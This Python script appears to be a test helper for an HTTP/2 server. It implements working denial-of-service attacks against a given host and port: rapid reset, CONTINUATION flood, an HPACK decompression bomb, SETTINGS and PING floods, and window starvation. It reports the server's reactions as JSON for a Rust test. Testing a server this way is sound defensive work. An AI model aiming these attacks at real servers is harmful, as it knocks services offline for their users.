"""HTTP/2 attacks and probes over cleartext HTTP/2 (prior knowledge), for
tests/it/http2.rs. Run with bench/.venv's python (it needs the `h2`
package, whose `hyperframe` and `hpack` build the frames here):

    h2_attacks.py CASE HOST PORT [ARG]

CASE is one of rapid_reset, continuation_flood, hpack_bomb (attacks
repeated on new connections for SUSTAIN_SECONDS; the verdict is the worst
connection's), settings_flood, ping_flood (one connection, flooded without
reading for up to ATTACK_SECONDS), window_starvation (ARG: the path),
settings (prints the server's SETTINGS), over_limit (opens ARG streams at
once regardless of MAX_CONCURRENT_STREAMS) or inflight (one request;
prints `ready` once the server has read it, then waits for the answer;
ARG is the path).

The last line on stdout is a JSON verdict: what the server did (GOAWAY and
its error code, a close, resets, responses) and when, in seconds since the
attack started. The exit code is 0 whenever a verdict was printed: the
Rust test judges it.
"""

import json
import select
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
SETTING_NAMES = {
    0x1: "HEADER_TABLE_SIZE",
    0x2: "ENABLE_PUSH",
    0x3: "MAX_CONCURRENT_STREAMS",
    0x4: "INITIAL_WINDOW_SIZE",
    0x5: "MAX_FRAME_SIZE",
    0x6: "MAX_HEADER_LIST_SIZE",
    0x8: "ENABLE_CONNECT_PROTOCOL",
}
# An attack on one connection runs until the server ends it or this passes.
ATTACK_SECONDS = 10.0
# Attacks the server ends early are repeated on new connections (as a real
# attacker reconnects) until this much time has passed in all.
SUSTAIN_SECONDS = 5.0


class Peer:
    """A raw HTTP/2 connection: frames out as bytes, frames in parsed by a
    reader thread that records what the server did."""

    def __init__(self, host, port, polite=True):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.encoder = hpack.Encoder()
        self.start = time.monotonic()
        self.lock = threading.Lock()
        self.send_lock = threading.Lock()
        self.ended = threading.Event()
        self.polite = polite  # acknowledge SETTINGS and PING
        self.v = {
            "goaway": None,
            "goaway_at": None,
            "goaway_last_stream_id": None,
            "goaway_debug": None,
            "closed_at": None,
            "close_kind": None,
            "rst_streams": 0,
            "rst_codes": {},
            "statuses": {},
            "responses": 0,
            "data_bytes": 0,
            "settings": None,
            "settings_acks": 0,
            "ping_acks": 0,
            "frames_in": 0,
            "frames_sent": 0,
            "send_error": None,
            "send_error_at": None,
        }
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 1 << 16
        self.stream_done = {}
        self.headers_buf = {}

    def elapsed(self):
        return round(time.monotonic() - self.start, 3)

    def send(self, data, frames=1):
        try:
            with self.send_lock:
                self.sock.sendall(data)
                self.v["frames_sent"] += frames
            return True
        except OSError as e:
            if self.v["send_error"] is None:
                self.v["send_error"] = type(e).__name__ + ": " + str(e)
                self.v["send_error_at"] = self.elapsed()
            return False

    def handshake(self, settings=None):
        s = SettingsFrame(0)
        for k, val in (settings or {}).items():
            s.settings[k] = val
        self.send(PREFACE + s.serialize())

    def headers_block(self, path, extra=()):
        return self.encoder.encode(
            [
                (":method", "GET"),
                (":scheme", "http"),
                (":path", path),
                (":authority", self.authority),
            ]
            + list(extra)
        )

    def get(self, sid, path, end_stream=True):
        f = HeadersFrame(sid, self.headers_block(path))
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def start_reader(self):
        t = threading.Thread(target=self.read_loop, daemon=True)
        t.start()
        return t

    def read_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                return None
            buf += chunk
        return buf

    def read_loop(self):
        self.sock.settimeout(None)
        try:
            while True:
                head = self.read_exact(9)
                if head is None:
                    self.mark_closed("eof")
                    return
                frame, length = Frame.parse_frame_header(memoryview(head))
                body = self.read_exact(length) if length else b""
                if body is None:
                    self.mark_closed("eof")
                    return
                frame.parse_body(memoryview(body))
                self.on_frame(frame)
        except OSError as e:
            self.mark_closed(type(e).__name__)

    def mark_closed(self, kind):
        with self.lock:
            if self.v["closed_at"] is None:
                self.v["closed_at"] = self.elapsed()
                self.v["close_kind"] = kind
        self.ended.set()

    def on_frame(self, f):
        v = self.v
        v["frames_in"] += 1
        if isinstance(f, GoAwayFrame):
            with self.lock:
                if v["goaway"] is None:
                    v["goaway"] = ERRORS.get(f.error_code, hex(f.error_code))
                    v["goaway_at"] = self.elapsed()
                    v["goaway_last_stream_id"] = f.last_stream_id
                    v["goaway_debug"] = bytes(f.additional_data).decode("latin-1")[:200]
            self.ended.set()
        elif isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                v["settings_acks"] += 1
            else:
                if v["settings"] is None:
                    v["settings"] = {
                        SETTING_NAMES.get(k, str(k)): val for k, val in f.settings.items()
                    }
                if self.polite:
                    ack = SettingsFrame(0)
                    ack.flags.add("ACK")
                    self.send(ack.serialize())
        elif isinstance(f, PingFrame):
            if "ACK" in f.flags:
                v["ping_acks"] += 1
            elif self.polite:
                ack = PingFrame(0, f.opaque_data)
                ack.flags.add("ACK")
                self.send(ack.serialize())
        elif isinstance(f, RstStreamFrame):
            v["rst_streams"] += 1
            code = ERRORS.get(f.error_code, hex(f.error_code))
            v["rst_codes"][code] = v["rst_codes"].get(code, 0) + 1
            self.stream_done[f.stream_id] = "reset:" + code
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            buf = self.headers_buf.get(f.stream_id, b"") + bytes(f.data)
            if "END_HEADERS" in f.flags:
                self.headers_buf.pop(f.stream_id, None)
                try:
                    fields = self.decoder.decode(buf, raw=False)
                except Exception as e:  # a broken block is worth reporting
                    v["decode_error"] = repr(e)
                    fields = []
                status = dict(fields).get(":status")
                if status is not None:
                    v["responses"] += 1
                    v["statuses"][status] = v["statuses"].get(status, 0) + 1
                    self.stream_done.setdefault(("status", f.stream_id), status)
            else:
                self.headers_buf[f.stream_id] = buf
            if "END_STREAM" in f.flags:
                self.stream_done[f.stream_id] = "end"
        elif isinstance(f, DataFrame):
            v["data_bytes"] += len(f.data)
            if "END_STREAM" in f.flags:
                self.stream_done[f.stream_id] = "end"

    def wait_settled(self, seconds=5.0):
        """Waits until the server's SETTINGS arrived (and were acked) and
        our SETTINGS were acknowledged."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.ended.is_set():
            if self.v["settings"] is not None and self.v["settings_acks"] >= 1:
                return True
            time.sleep(0.002)
        return False

    def wait_end(self, until):
        """Waits until the server sent GOAWAY or closed, or `until`."""
        while not self.ended.is_set():
            left = until - time.monotonic()
            if left <= 0:
                return False
            self.ended.wait(min(left, 0.1))
        return True

    def linger_for_close(self, seconds):
        """After a GOAWAY, waits a little for the close that should follow."""
        deadline = time.monotonic() + seconds
        while self.v["closed_at"] is None and time.monotonic() < deadline:
            time.sleep(0.02)

    def verdict(self, case, **extra):
        v = dict(self.v)
        v["case"] = case
        v["ended"] = v["goaway"] is not None or v["closed_at"] is not None
        ends = [t for t in (v["goaway_at"], v["closed_at"]) if t is not None]
        v["ended_at"] = min(ends) if ends else None
        v["elapsed"] = self.elapsed()
        v.update(extra)
        try:
            self.sock.close()
        except OSError:
            pass
        return v


def attack_loop(peer, step):
    """Calls `step(i)` (which returns bytes and a frame count) until the
    server ends the connection or ATTACK_SECONDS pass."""
    deadline = peer.start + ATTACK_SECONDS
    i = 0
    while not peer.ended.is_set() and time.monotonic() < deadline:
        data, frames = step(i)
        if not peer.send(data, frames):
            break
        i += 1
    # A send error means the server closed; let the reader see it.
    peer.wait_end(time.monotonic() + 2.0)
    peer.linger_for_close(2.0)
    return i


def sustained(case, one, host, port):
    """Runs `one(host, port)` (one connection's attack, returning its
    verdict) again and again until SUSTAIN_SECONDS have passed; the verdict
    is the worst connection's, with totals over all of them."""
    start = time.monotonic()
    verdicts = []
    while True:
        verdicts.append(one(host, port))
        if time.monotonic() - start >= SUSTAIN_SECONDS:
            break
    unended = [v for v in verdicts if not v["ended"]]
    worst = unended[0] if unended else max(verdicts, key=lambda v: v["ended_at"])
    out = dict(worst)
    out["case"] = case
    out["connections"] = len(verdicts)
    out["all_ended"] = not unended
    out["ended"] = not unended
    out["goaways_seen"] = {}
    for v in verdicts:
        key = v["goaway"] or ("close:" + str(v["close_kind"]))
        out["goaways_seen"][key] = out["goaways_seen"].get(key, 0) + 1
    for key in ("streams_opened", "continuation_frames", "header_blocks", "frames_sent"):
        if key in worst:
            out[key + "_total"] = sum(v.get(key, 0) for v in verdicts)
    out["first"] = {k: verdicts[0].get(k) for k in ("goaway", "goaway_debug", "ended_at", "close_kind")}
    out["sustained_seconds"] = round(time.monotonic() - start, 3)
    return out


def rapid_reset(host, port, _arg):
    return sustained("rapid_reset", rapid_reset_once, host, port)


def continuation_flood(host, port, _arg):
    return sustained("continuation_flood", continuation_flood_once, host, port)


def hpack_bomb(host, port, _arg):
    return sustained("hpack_bomb", hpack_bomb_once, host, port)


def rapid_reset_once(host, port):
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    batch = 50

    def step(i):
        out = bytearray()
        for j in range(batch):
            sid = 1 + 2 * (i * batch + j)
            out += peer.get(sid, "/")
            out += RstStreamFrame(sid, error_code=0x8).serialize()
        return bytes(out), 2 * batch

    loops = attack_loop(peer, step)
    return peer.verdict("rapid_reset", streams_opened=loops * batch)


def continuation_flood_once(host, port):
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    # Nothing may come between HEADERS and its CONTINUATIONs: settle the
    # SETTINGS exchange first, then stop answering anything.
    peer.wait_settled()
    peer.polite = False
    first = HeadersFrame(1, peer.headers_block("/"))  # no END_HEADERS
    peer.send(first.serialize())
    # Each CONTINUATION carries one complete literal field (never indexed),
    # so the block stays valid HPACK however long it grows.
    field = literal(b"x-flood", b"f" * 200)
    batch = 50

    def step(_i):
        out = bytearray()
        for _ in range(batch):
            out += ContinuationFrame(1, field).serialize()
        return bytes(out), batch

    loops = attack_loop(peer, step)
    return peer.verdict("continuation_flood", continuation_frames=loops * batch)


def hpack_bomb_once(host, port):
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    # A literal with incremental indexing puts a 4000-byte value into the
    # dynamic table (index 62); each later one-byte reference (0xBE)
    # decodes to those 4000 bytes again.
    indexed = b"\x40" + hpack_int(len(b"x-bomb"), 7) + b"x-bomb" + hpack_int(4000, 7) + b"b" * 4000
    # GET http / (static indices), :authority as a literal never added to
    # the table, so index 62 stays the bomb in every block.
    base = b"\x82\x86\x84" + b"\x01" + hpack_int(len(peer.authority), 7) + peer.authority.encode()
    refs = b"\xbe" * 12000
    sid = [1]

    def step(i):
        block = base + (indexed if i == 0 else b"") + refs
        f = HeadersFrame(sid[0], block)
        f.flags.add("END_HEADERS")
        f.flags.add("END_STREAM")
        sid[0] += 2
        return f.serialize(), 1

    loops = attack_loop(peer, step)
    return peer.verdict("hpack_bomb", header_blocks=loops, decoded_bytes_per_block=12000 * 4000)


def hpack_int(value, prefix_bits):
    """An HPACK integer with an N-bit prefix (the high bits left 0, so the
    first byte also says "not Huffman" for a string length)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def flood_without_reading(peer, frame_bytes):
    """Sends `frame_bytes` again and again, never reading, until
    ATTACK_SECONDS pass or a send fails (the server closed: a reset, since
    our unread frames are still in its buffer). Partial sends are resumed,
    so the stream stays well framed while the server applies backpressure.
    Returns (frames sent, seconds spent stalled)."""
    peer.sock.setblocking(False)
    batch = frame_bytes * 100
    pending = b""
    sent_bytes = 0
    stalled = 0.0
    deadline = peer.start + ATTACK_SECONDS
    while time.monotonic() < deadline:
        if not pending:
            pending = batch
        t = time.monotonic()
        _, writable, _ = select.select([], [peer.sock], [], 0.2)
        if not writable:
            stalled += time.monotonic() - t
            continue
        try:
            n = peer.sock.send(pending)
        except BlockingIOError:
            continue
        except OSError as e:
            peer.v["send_error"] = type(e).__name__ + ": " + str(e)
            peer.v["send_error_at"] = peer.elapsed()
            peer.mark_closed("send:" + type(e).__name__)
            break
        pending = pending[n:]
        sent_bytes += n
    peer.sock.setblocking(True)
    peer.v["frames_sent"] += sent_bytes // len(frame_bytes)
    return sent_bytes // len(frame_bytes), round(stalled, 3)


def request_inline(peer, path):
    """One GET on stream 1, read here (no reader thread) to its end, so the
    flood comes from a client past its first request."""
    peer.send(peer.get(1, path))
    deadline = time.monotonic() + 5
    peer.sock.settimeout(5)
    while peer.stream_done.get(1) is None and time.monotonic() < deadline:
        head = peer.read_exact(9)
        if head is None:
            peer.mark_closed("eof")
            return
        frame, length = Frame.parse_frame_header(memoryview(head))
        body = peer.read_exact(length) if length else b""
        frame.parse_body(memoryview(body))
        peer.on_frame(frame)


def settings_or_ping_flood(case, host, port, frame_bytes):
    peer = Peer(host, port)
    peer.handshake()
    request_inline(peer, "/")
    peer.polite = False
    first_status = peer.stream_done.get(("status", 1))
    sent, stalled = flood_without_reading(peer, frame_bytes)
    flood_done_at = peer.elapsed()
    # Now read what the server sent (acks, a GOAWAY) and whether it closed.
    # A GOAWAY or close found at once was there before the flood ended.
    peer.start_reader()
    peer.wait_end(time.monotonic() + 2.0)
    peer.linger_for_close(2.0)
    return peer.verdict(
        case,
        flood_frames=sent,
        flood_stalled_seconds=stalled,
        flood_done_at=flood_done_at,
        ended_during_flood=peer.v["send_error_at"] is not None,
        first_request_status=first_status,
    )


def settings_flood(host, port, _arg):
    return settings_or_ping_flood("settings_flood", host, port, SettingsFrame(0).serialize())


def ping_flood(host, port, _arg):
    return settings_or_ping_flood(
        "ping_flood", host, port, PingFrame(0, b"\x01\x02\x03\x04\x05\x06\x07\x08").serialize()
    )


def window_starvation(host, port, arg):
    path = arg or "/stream?n=5000000"
    seconds = 30.0
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    # Never a WINDOW_UPDATE: the server may send 65535 bytes, then must wait.
    peer.send(peer.get(1, path))
    peer.wait_end(peer.start + seconds)
    peer.linger_for_close(2.0)
    return peer.verdict(
        "window_starvation",
        path=path,
        stream_1=peer.stream_done.get(1),
        status_1=peer.stream_done.get(("status", 1)),
    )


def settings(host, port, _arg):
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    deadline = time.monotonic() + 5
    while peer.v["settings"] is None and time.monotonic() < deadline and not peer.ended.is_set():
        time.sleep(0.01)
    return peer.verdict("settings")


def inflight(host, port, arg):
    """One request; `ready` is printed once the server has read it (a PING
    sent after it is acknowledged, and frames are handled in order), then
    the test signals the server and this waits for the answer."""
    path = arg or "/sleep?s=2"
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    peer.send(peer.get(1, path))
    peer.send(PingFrame(0, b"inflight").serialize())
    deadline = time.monotonic() + 5
    while peer.v["ping_acks"] == 0 and time.monotonic() < deadline and not peer.ended.is_set():
        time.sleep(0.005)
    print("ready", flush=True)
    deadline = time.monotonic() + 15
    while peer.stream_done.get(1) is None and time.monotonic() < deadline:
        time.sleep(0.01)
    stream_end_at = peer.elapsed()
    peer.linger_for_close(3.0)
    return peer.verdict(
        "inflight",
        path=path,
        stream_1=peer.stream_done.get(1),
        status_1=peer.stream_done.get(("status", 1)),
        stream_end_at=stream_end_at,
    )


def over_limit(host, port, arg):
    """Opens ARG streams of /sleep?s=1 at once, ignoring the server's
    MAX_CONCURRENT_STREAMS, and reports how each ended."""
    n = int(arg or "3")
    peer = Peer(host, port)
    peer.handshake()
    peer.start_reader()
    peer.wait_settled()
    out = bytearray()
    for i in range(n):
        out += peer.get(1 + 2 * i, f"/sleep?s=1&i={i}")
    peer.send(bytes(out), n)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not peer.ended.is_set():
        if all(peer.stream_done.get(1 + 2 * i) is not None for i in range(n)):
            break
        time.sleep(0.01)
    return peer.verdict(
        "over_limit",
        streams={str(1 + 2 * i): peer.stream_done.get(1 + 2 * i) for i in range(n)},
    )


CASES = {
    "over_limit": over_limit,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_starvation": window_starvation,
    "settings": settings,
    "inflight": inflight,
}


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in CASES:
        print(__doc__, file=sys.stderr)
        return 2
    case, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    arg = sys.argv[4] if len(sys.argv) > 4 else None
    verdict = CASES[case](host, port, arg)
    print(json.dumps(verdict, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
